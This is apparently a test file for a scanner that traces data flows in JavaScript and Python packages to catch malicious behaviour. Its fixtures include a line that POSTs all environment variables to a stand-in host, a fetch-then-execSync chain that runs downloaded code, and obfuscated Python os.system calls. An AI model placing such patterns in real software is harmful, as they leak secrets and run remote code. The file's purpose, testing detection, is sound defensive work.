import assert from "node:assert/strict";
import { test } from "node:test";
import type { SourceFile, Tokens } from "../model.ts";
import { PREFILTER } from "../searched.ts";
import { sourceFile } from "../source-file.ts";
import { deedsOf, flowsBetween } from "./trace.ts";

function script(text: string): SourceFile {
  const file = sourceFile("package/index.js", { bytes: Buffer.from(text) }, "javascript", {
    prefilter: PREFILTER,
    lexedBytes: 16 << 20,
  });
  return Object.assign(file, { phase: "import" as const });
}

/** A bundle of `count` modules that do what libraries do. */
function bundle(count: number, plant = "", where = 0): string {
  const modules = Array.from({ length: count }, (_, at) =>
    [
      `function module${at}(exports, require) {`,
      `  const settings = { retries: ${at}, name: "module-${at}" };`,
      "  for (const [key, value] of Object.entries(settings)) exports[key] = String(value).trim();",
      `  exports.load = (path) => require(path).map((one) => one.send({ at: ${at} })).filter(Boolean);`,
      "}",
    ].join("\n"),
  );
  modules.splice(Math.floor(where * count), 0, plant);
  return modules.join("\n");
}

const CHAIN =
  "const all = JSON.stringify(process.env);\nfetch('https://example.invalid', { method: 'POST', body: all });\n";
/** What could fill any bound on calls, deeds or flows before the chain is reached. */
const DECOYS = Array.from(
  { length: 5_000 },
  (_, at) => `channel.send(${at}); fetch("/api/" + process.env.NAME); Buffer.from("x", "hex"); socket.emit("${at}");`,
).join("\n");

test("a bundle that sends the environment is found out wherever it does", () => {
  for (const where of [0, 0.3, 0.7, 1]) {
    const file = script(bundle(1_500, CHAIN, where));
    assert.ok(file.text.length > 400_000);
    const [flow] = flowsBetween(file, ["environment"], ["upload"]);
    assert.equal(flow?.sink.what, "fetch", `at ${where}`);
    assert.equal(file.text.slice(flow.source.offset).startsWith("process.env)"), true);
  }
});

test("five thousand decoys before a chain hide neither its deeds nor its flow", () => {
  const file = script(`${DECOYS}\n${bundle(200, CHAIN, 0.5)}\n`);
  assert.equal(flowsBetween(file, ["environment"], ["upload"]).length, 1);
  assert.equal(deedsOf(file, "environment").length, 1);
  assert.equal(deedsOf(file, "upload").length, 1);
});

test("a call that is a statement of its own declares no function of that name, so that what it is given is followed", () => {
  const file = script(
    "const https = require('https');\nfunction all() { return JSON.stringify(process.env); }\n" +
      "function send(body) { const r = https.request({ method: 'POST' }); r.write(body); r.end(); }\nsend(all());\n",
  );
  const [flow] = flowsBetween(file, ["environment"], ["upload"]);
  assert.equal(flow?.sink.what, "https.request().write");
  assert.equal(flow?.sink.phase, file.phase);
});

test("a module that is imported at the top of a bundle is known at its end", () => {
  const text = `import { execSync as e } from "node:child_process";\n${bundle(1_500)}\n`;
  const file = script(`${text}fetch("https://example.invalid/a").then((r) => r.text()).then((t) => e(t));\n`);
  assert.deepEqual(
    deedsOf(file, "start").map((deed) => deed.what),
    ["child_process.execSync"],
  );
  assert.equal(flowsBetween(file, ["http"], ["start"]).length, 1);
});

test("tracing a bundle looks at each token a few times and makes no text of them", () => {
  for (const count of [1_000, 4_000]) {
    const file = script(bundle(count, CHAIN, 0.5));
    const { tokens, looks, texts } = counted(file.tokens);
    const seen: SourceFile = Object.create(file, { tokens: { value: tokens } });
    assert.equal(flowsBetween(seen, ["environment"], ["upload"]).length, 1);
    assert.ok(looks() < tokens.length * 6, `${looks()} looks at ${tokens.length} tokens`);
    assert.ok(texts() < 3_000, `${texts()} texts of ${tokens.length} tokens`);
  }
});

function counted(tokens: Tokens) {
  let looks = 0;
  let texts = 0;
  const look = <T>(get: (index: number) => T) => {
    return (index: number): T => {
      looks++;
      return get(index);
    };
  };
  const make = (get: (index: number) => string) => {
    return (index: number): string => {
      texts++;
      return get(index);
    };
  };
  const { length, kind, start, end, text, value } = tokens;
  const counting = {
    ...tokens,
    length,
    kind: look(kind),
    start: look(start),
    end: look(end),
    text: make(text),
    value: make(value),
  };
  return { tokens: counting as Tokens, looks: () => looks, texts: () => texts };
}

test("a Python file is resolved only where its words allow what is asked, and always where it can do without", () => {
  const python = (text: string) =>
    sourceFile("demo/a.py", { bytes: Buffer.from(text) }, "python", { prefilter: PREFILTER, lexedBytes: 1 << 20 });
  assert.deepEqual(deedsOf(python("# os.system('x')\nimport os\nos.getcwd()\n"), "start"), []);
  for (const hidden of [
    "import os\ngetattr(os, 'sys' + 'tem')('x')\n",
    "__import__('o' + 's').system('x')\n",
    "from os import *\nsystem('x')\n",
    "import os as o\nf = o.system\nf('x')\n",
  ])
    assert.equal(deedsOf(python(hidden), "start").length, 1, hidden);
});
